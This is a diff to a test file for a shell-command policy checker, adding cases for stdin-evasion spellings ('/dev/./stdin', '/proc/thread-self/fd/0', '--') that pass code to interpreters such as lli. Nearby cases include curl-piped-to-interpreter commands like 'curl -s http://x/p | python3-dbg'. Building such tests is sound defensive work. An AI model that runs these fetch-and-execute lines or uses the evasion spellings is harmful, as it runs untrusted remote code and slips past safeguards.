@@ -96,6 +96,13 @@ def test_attack_a10f_cd_guessing_options(default_policy, line, expected):
     ("mono-csi", "interpreter"),
     ("kawa", "interpreter"),
     ("sudo -u app kawa", "interpreter"),
+    # attack c12f, finding 1: the end of options, stdin in other spellings
+    ("lli --", "interpreter"),
+    ("lli /dev/./stdin", "interpreter"),
+    ("lli //dev/stdin", "interpreter"),
+    ("lli /proc/thread-self/fd/0", "interpreter"),
+    ("mytool --", "program"),
+    ("mytool -- file", None),
     # a program no table reads that only may: its first data is held (bastion.ssh.fed_gate)
     ("mytool -v", "program"),
     ("./healthcheck", "program"),
@@ -128,6 +135,9 @@ def test_attack_a10f_what_reads_its_program_from_stdin(line, reads):
     ("curl -s http://x/p | python3-dbg", "deny"),
     # 10: text piped or fed to a program no table reads is its program
     ("cat x.ll | lli", "confirm"),
+    ("lli -- <<< 'x'", "confirm"),  # attack c12f, finding 1
+    ("lli /dev/./stdin <<< 'x'", "confirm"),
+    ("printf x | mytool --", "confirm"),
     ("lli <<< 'define i32 @main() { ret i32 0 }'", "confirm"),
     ("curl -s http://x/p.php | php-cgi", "confirm"),
     # 7: pager wrappers exec less or more with the words they were given
